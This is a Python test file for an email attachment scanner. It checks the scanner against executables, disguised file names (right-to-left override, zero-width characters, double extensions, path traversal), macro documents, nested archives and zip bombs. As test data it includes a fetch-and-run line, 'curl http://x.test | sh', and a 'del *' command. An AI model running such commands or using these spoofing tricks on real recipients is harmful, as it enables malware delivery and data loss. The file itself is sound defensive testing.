"""spoolgate/scan/attachments.py: each attachment rule fires on its trick, archives are read
within their limits, and ordinary files from real clients fire nothing."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import time
import tracemalloc
import zipfile
from email.message import EmailMessage
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from spoolgate.mail.verdict import Action, Findings
from spoolgate.mime.parse import ParsedMessage, Part, parse_message
from spoolgate.scan.attachments import (
    AttachmentFindings,
    AttachmentRules,
    inspect_attachments,
)
from spoolgate.scan.policy import ScanPolicy, decide
from tests.archives import tar_of, zip_of
from tests.conftest import CORPUS

RULES = AttachmentRules()
PDF = (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
       b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
# A DOS header whose e_lfanew (offset 60) points at a PE signature: what Windows runs.
PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\x00\x00" + bytes(200)


def message(*files: tuple[str | None, bytes], content_type: str = "application/octet-stream",
            ) -> bytes:
    """A message with a text body and each (filename, data) as an attachment."""
    msg = EmailMessage()
    msg["From"] = "alice@remote.test"
    msg["To"] = "bob@example.test"
    msg["Subject"] = "files"
    msg.set_content("see attached")
    maintype, subtype = content_type.split("/")
    for name, data in files:
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


def inspect(*files: tuple[str | None, bytes], rules: AttachmentRules = RULES,
            content_type: str = "application/octet-stream") -> AttachmentFindings:
    return inspect_attachments(parse_message(message(*files, content_type=content_type)), rules)


def scores(found: AttachmentFindings) -> dict[str, float]:
    return {symbol.name: symbol.score for symbol in found.symbols}


def patched(data: bytes, signature: bytes, offset: int, value: bytes) -> bytes:
    """*data* with *value* written at *offset* after every *signature* (zip header fields)."""
    out = bytearray(data)
    start = out.find(signature)
    while start >= 0:
        out[start + offset:start + offset + len(value)] = value
        start = out.find(signature, start + 1)
    return bytes(out)


def encrypted(data: bytes) -> bytes:
    """A zip whose members say "encrypted" (flag bit 0): zipfile cannot write real ones."""
    data = patched(data, b"PK\x03\x04", 6, b"\x01\x00")
    return patched(data, b"PK\x01\x02", 8, b"\x01\x00")


def nested_zips(levels: int) -> bytes:
    data = zip_of({"note.txt": b"the innermost file"})
    for level in range(levels - 1, 0, -1):
        data = zip_of({f"level{level + 1}.zip": data})
    return data


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    return zip_of({"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>",
                   "word/document.xml": b"<w:document>Quarterly report</w:document>",
                   "word/media/image1.png": PNG, **(extra or {})})


def test_ordinary_attachments_fire_nothing() -> None:
    found = inspect(("report.pdf", PDF), ("chart.png", PNG), ("notes.txt", b"hello\n"),
                    ("minutes.docx", docx()), ("old.doc", OLE2),
                    ("texts.zip", zip_of({"a.txt": b"one", "dir/b.txt": b"two"})),
                    ("logs.tar.gz", tar_of({"app.log": b"started\n" * 100}, "w:gz")),
                    ("Xorg.0.log.gz", gzip.compress(b"(II) Loading module\n" * 500)),
                    ("scan.MZ.txt", b"MZ Transport Ltd, invoice 2024\n" * 20),
                    ("install.txt", b"#!/bin/sh\necho run me\n"))
    assert found == AttachmentFindings()


@pytest.mark.parametrize(("name", "expected"), [
    ("setup.exe", {"ATTACH_BLOCKED_EXT"}),
    ("SETUP.EXE", {"ATTACH_BLOCKED_EXT"}),
    ("setup.exe. . .", {"ATTACH_BLOCKED_EXT"}),  # Windows drops trailing dots and spaces
    ("..\\..\\Startup\\run.bat", {"ATTACH_BLOCKED_EXT"}),
    ("report.pdf.exe", {"ATTACH_BLOCKED_EXT", "ATTACH_DOUBLE_EXT"}),
    ("PHOTO.JPG .SCR", {"ATTACH_BLOCKED_EXT", "ATTACH_DOUBLE_EXT"}),
    ("photo.jpg      .scr", {"ATTACH_BLOCKED_EXT", "ATTACH_DOUBLE_EXT"}),
    ("statement.pdf.html", {"ATTACH_DOUBLE_EXT"}),
    ("invoice\u202efdp.exe", {"ATTACH_BLOCKED_EXT", "ATTACH_BIDI_NAME"}),
    ("invoice.e\u200bxe", {"ATTACH_BLOCKED_EXT", "ATTACH_BIDI_NAME"}),
    ("budget.xlsm", {"ATTACH_MACRO"}),
])
def test_each_name_rule_fires_on_its_trick(name: str, expected: set[str]) -> None:
    assert set(scores(inspect((name, b"content")))) == expected


def test_the_right_to_left_override_is_decisive_and_shown_escaped() -> None:
    found = inspect(("invoice\u202efdp.exe", b"content"))
    bidi = next(s for s in found.symbols if s.name == "ATTACH_BIDI_NAME")
    assert bidi.score >= ScanPolicy().reject_score
    assert "'invoiceexe.pdf'" in bidi.detail  # what the recipient sees
    assert "\\u202e" in bidi.detail and "\u202e" not in bidi.detail


def test_a_reordering_control_with_a_harmless_extension_is_still_decisive() -> None:
    assert scores(inspect(("cod\u202etxt.pdf", PDF))) == {"ATTACH_BIDI_NAME": 20.0}


@pytest.mark.parametrize("name", [
    "\u06af\u0632\u0627\u0631\u0634\u200c\u0645\u0627\u0644\u06cc.pdf",  # Persian, with ZWNJ
    "\u05d3\u05d5\u05d7\u200f.pdf",  # Hebrew, with a right-to-left mark
])
def test_joiners_and_marks_in_right_to_left_names_only_add_a_little(name: str) -> None:
    assert scores(inspect((name, PDF))) == {"ATTACH_BIDI_NAME": 1.0}


def test_a_dangerous_extension_hidden_by_zero_width_characters_is_still_blocked() -> None:
    found = scores(inspect(("invoice.pdf\u200b\u200b\u200b.e\u200bxe", PE)))
    assert found == {"ATTACH_BLOCKED_EXT": 20.0, "ATTACH_DOUBLE_EXT": 5.0,
                     "ATTACH_BIDI_NAME": 1.0}


@pytest.mark.parametrize(("name", "data", "score"), [
    ("invoice.pdf", PE, 20.0),
    ("photo.jpg", ELF, 20.0),
    ("update.bin", PE, 20.0),
    (None, PE, 20.0),
    ("invoice.pdf", b"#!/bin/sh\ncurl http://x.test | sh\n", 5.0),
    ("readme.txt", OLE2, 5.0),
])
def test_content_that_contradicts_the_name_is_a_mismatch(name: str | None, data: bytes,
                                                         score: float) -> None:
    assert scores(inspect((name, data))) == {"ATTACH_TYPE_MISMATCH": score}


def test_the_declared_type_counts_when_there_is_no_extension() -> None:
    found = inspect(("scan", OLE2), content_type="application/pdf")
    assert scores(found) == {"ATTACH_TYPE_MISMATCH": 5.0}


def test_an_executable_under_its_own_blocked_name_is_only_the_blocked_extension() -> None:
    assert set(scores(inspect(("tool.exe", PE)))) == {"ATTACH_BLOCKED_EXT"}


def test_a_blocked_extension_rejects_by_default_and_quarantines_when_lowered() -> None:
    for rules, action in ((RULES, Action.REJECT),
                          (AttachmentRules(decisive_score=12.0), Action.QUARANTINE)):
        found = inspect(("setup.exe", PE), rules=rules)
        total = sum(s.score for s in found.symbols)
        findings = Findings("builtin", score=total, symbols=found.symbols)
        assert decide(ScanPolicy(), [findings]).action is action


@pytest.mark.parametrize(("files", "expected"), [
    ({"docs/readme.txt": b"hi", "bin/setup.exe": PE}, "ATTACH_ARCHIVE_BLOCKED_EXT"),
    ({"invoice.PDF.js": b"WScript.Shell"}, "ATTACH_ARCHIVE_BLOCKED_EXT"),
    ({"invoice.pdf": PE}, "ATTACH_TYPE_MISMATCH"),
    ({"inner.zip": zip_of({"run.cmd": b"del *"})}, "ATTACH_ARCHIVE_BLOCKED_EXT"),
])
def test_a_zip_holding_something_that_runs_is_found(files: dict[str, bytes],
                                                     expected: str) -> None:
    found = inspect(("documents.zip", zip_of(files)))
    assert scores(found)[expected] >= ScanPolicy().reject_score
    assert found.unscannable is None


def test_members_are_named_with_their_archive() -> None:
    found = inspect(("documents.zip", zip_of({"bin/setup.exe": PE})))
    assert found.symbols[0].detail == "'bin/setup.exe' in 'documents.zip': .exe"


def test_macros_are_found_by_name_and_by_vba_project() -> None:
    for name, data in (("report.docm", docx({"word/vbaProject.bin": OLE2})),
                       ("report.docx", docx({"word/vbaProject.bin": OLE2}))):
        assert scores(inspect((name, data))) == {"ATTACH_MACRO": 4.0}


@pytest.mark.parametrize(("name", "data"), [
    ("tools.tar.gz", tar_of({"README": b"read me", "bin/install.bat": b"@echo off"}, "w:gz")),
    ("tools.tbz2", tar_of({"install.vbs": b"MsgBox 1"}, "w:bz2")),
    ("tools.tar.xz", tar_of({"payload.js": b"eval(1)"}, "w:xz")),
    ("tools.tar", tar_of({"link.lnk": b"L\x00\x00\x00"})),
    ("setup.exe.gz", gzip.compress(PE)),
    ("setup.exe.bz2", bz2.compress(PE)),
    ("setup.exe.xz", lzma.compress(PE)),
    ("bundle.tar.gz", tar_of({"docs.zip": zip_of({"a.scr": b"x"})}, "w:gz")),
])
def test_tar_gzip_bzip2_and_xz_are_read(name: str, data: bytes) -> None:
    found = inspect((name, data))
    assert "ATTACH_ARCHIVE_BLOCKED_EXT" in scores(found)
    assert found.unscannable is None


def test_an_encrypted_zip_is_unscannable() -> None:
    found = inspect(("salary.zip", encrypted(zip_of({"salary.xlsx": b"secret"}))))
    assert scores(found) == {"ATTACH_ENCRYPTED_ARCHIVE": 2.0}
    assert found.unscannable == "encrypted archive ('salary.zip')"


def test_nesting_deeper_than_the_limit_is_unscannable() -> None:
    assert inspect(("deep.zip", nested_zips(3))).unscannable is None
    found = inspect(("deep.zip", nested_zips(5)))
    assert found.unscannable is not None
    assert found.unscannable.startswith("archive nesting deeper than 3 (")


def test_a_zip_bomb_is_unscannable_without_being_decompressed() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("zeros.bin", "w") as member:
            chunk = bytes(1024 * 1024)
            for _ in range(100):
                member.write(chunk)
    parsed = parse_message(message(("bomb.zip", buffer.getvalue())))
    tracemalloc.start()
    try:
        found = inspect_attachments(parsed, RULES)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert found.unscannable is not None
    assert found.unscannable.startswith("archive bomb: compression ratio")
    assert peak < 8 * 1024 * 1024  # the 100 MB were never produced


def test_a_central_directory_declaring_a_huge_size_is_unscannable() -> None:
    data = zip_of({"big.bin": b"x" * 100}, zipfile.ZIP_STORED)
    data = patched(data, b"PK\x01\x02", 24, (0xFFFFFFF0).to_bytes(4, "little"))
    found = inspect(("big.zip", data), rules=AttachmentRules(max_archive_ratio=1e12))
    assert found.unscannable == (f"archive bomb: expands to more than {RULES.max_archive_size} "
                                 "bytes ('big.bin' in 'big.zip')")


def test_too_many_members_are_unscannable() -> None:
    files = {f"f{i}.txt": b"" for i in range(RULES.max_archive_members)}
    assert inspect(("many.zip", zip_of(files))).unscannable is None
    files["one-more.txt"] = b""
    found = inspect(("many.zip", zip_of(files)))
    assert found.unscannable == "archive bomb: more than 1000 archive members ('many.zip')"


def test_a_compressed_tar_that_expands_past_the_limit_is_unscannable() -> None:
    rules = AttachmentRules(max_expanded_bytes=1024 * 1024)
    zeros = bytes(2 * 1024 * 1024)
    found = inspect(("backup.tgz", tar_of({"disk.img.raw": zeros}, "w:gz")), rules=rules)
    assert found.unscannable == "archive expands beyond the 1048576-byte inspection limit"
    # One compressed file needs only its head: a large .csv.gz stays scannable.
    assert inspect(("export.csv.gz", gzip.compress(zeros)), rules=rules) == AttachmentFindings()


@pytest.mark.parametrize(("name", "data"), [
    ("photos.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(100)),
    ("photos.rar", b"Rar!\x1a\x07\x01\x00" + bytes(100)),
    ("broken.zip", b"PK\x03\x04" + bytes(100)),
    ("broken.gz", b"\x1f\x8b\x08" + bytes(100)),
])
def test_archives_that_cannot_be_read_only_add_a_little(name: str, data: bytes) -> None:
    found = inspect((name, data))
    assert scores(found) == {"ATTACH_UNREADABLE_ARCHIVE": 1.0}
    assert found.unscannable is None


def many_parts(count: int) -> bytes:
    """Parts without headers: named attachments hit the parser's Content-* budget first."""
    body = b"".join(b"--b\r\n\r\npart\r\n" for _ in range(count))
    return (b"From: a@remote.test\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + body + b"--b--\r\n")


def test_more_parts_than_the_limit_is_unscannable() -> None:
    within = parse_message(many_parts(RULES.max_parts - 1))
    assert not within.truncated and within.part_count == RULES.max_parts
    assert inspect_attachments(within, RULES) == AttachmentFindings()
    found = inspect_attachments(parse_message(many_parts(RULES.max_parts)), RULES)
    assert scores(found) == {"ATTACH_TOO_MANY_PARTS": 1.0}
    assert found.unscannable == "more than 500 MIME parts"


def test_one_symbol_per_rule_names_the_first_files() -> None:
    found = inspect(*[(f"tool{i}.exe", b"x") for i in range(5)])
    assert len(found.symbols) == 1
    assert found.symbols[0].detail.endswith("; and 2 more")


def parsed_with(name: str | None, payload: bytes) -> ParsedMessage:
    part = Part(content_type="application/octet-stream", charset=None, filename=name,
                disposition="attachment", content_id=None, size=len(payload), depth=1,
                payload=payload, text=None, defects=())
    return ParsedMessage((), "", "", "", "", "", "", (part,), 2, 1, (), False)


def test_a_name_cut_at_a_nul_byte_is_judged_too() -> None:
    found = inspect_attachments(parsed_with("setup.exe\x00.pdf", b"x"), RULES)
    assert "ATTACH_BLOCKED_EXT" in scores(found)


MAGIC = [b"", b"PK\x03\x04", b"PK\x05\x06", b"\x1f\x8b\x08", b"BZh9", b"\xfd7zXZ\x00", b"MZ",
         b"\x7fELF", b"7z\xbc\xaf\x27\x1c", b"Rar!\x1a\x07", b"#!/",
         b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"]


@settings(max_examples=300, deadline=None)
@given(name=st.none() | st.text(max_size=80), prefix=st.sampled_from(MAGIC),
       payload=st.binary(max_size=2048))
def test_any_payload_and_name_are_judged_without_error(name: str | None, prefix: bytes,
                                                       payload: bytes) -> None:
    found = inspect_attachments(parsed_with(name, prefix + payload), RULES)
    assert "inspection failed" not in (found.unscannable or "")


ARCHIVES = [zip_of({"a.txt": b"hello", "b/c.exe": PE, "d.zip": zip_of({"e.js": b"1"})}),
            tar_of({"a.txt": b"hello", "b.tar": tar_of({"c.exe": PE})}, "w:gz"),
            tar_of({"a.txt": b"hello" * 100}, "w:bz2"), tar_of({"a.txt": b"hi"}, "w:xz")]


@settings(max_examples=300, deadline=None)
@given(archive=st.sampled_from(ARCHIVES), edits=st.lists(
    st.tuples(st.integers(min_value=0), st.integers(min_value=0, max_value=255)), max_size=8))
def test_corrupted_archives_are_judged_without_error(archive: bytes,
                                                     edits: list[tuple[int, int]]) -> None:
    data = bytearray(archive)
    for index, value in edits:
        data[index % len(data)] = value
    found = inspect_attachments(parsed_with("x.bin", bytes(data)), RULES)
    assert "inspection failed" not in (found.unscannable or "")


def corpus_files(folder: str) -> list[Path]:
    root = CORPUS / folder
    if not root.is_dir():
        pytest.skip(f"corpus not found at {root} (set SPOOLGATE_CORPUS)")
    skip = {".json", ".csv", ".md", ".dns", ".result", ".error", ".readme", ".pub", ".list"}
    return sorted(p for p in root.rglob("*")
                  if p.is_file() and p.suffix not in skip and p.name != "LICENSE")


@pytest.mark.parametrize("folder", ["hunnysoft-mua", "flanker", "mimekit", "mail-gem",
                                    "cpython-email", "chasquid-dkim", "csdmc2010",
                                    "spamassassin", "xss"])
def test_every_corpus_message_is_judged_without_error(folder: str) -> None:
    for path in corpus_files(folder):
        parsed = parse_message(path.read_bytes())
        started = time.monotonic()
        found = inspect_attachments(parsed, RULES)
        assert time.monotonic() - started < 2.0, path  # a hang detector, not a benchmark
        assert "inspection failed" not in (found.unscannable or ""), (path, found)


def test_real_client_messages_have_no_decisive_finding() -> None:
    paths = [p for p in corpus_files("hunnysoft-mua") if p.name.startswith("m")]
    assert len(paths) > 50
    attachments = 0
    for path in paths:
        parsed = parse_message(path.read_bytes())
        attachments += len(parsed.attachments())
        found = inspect_attachments(parsed, RULES)
        assert all(s.score < ScanPolicy().reject_score for s in found.symbols), (path, found)
        assert found.unscannable is None, (path, found)
    assert attachments > 20  # the samples do carry files (winmail.dat, images, documents)
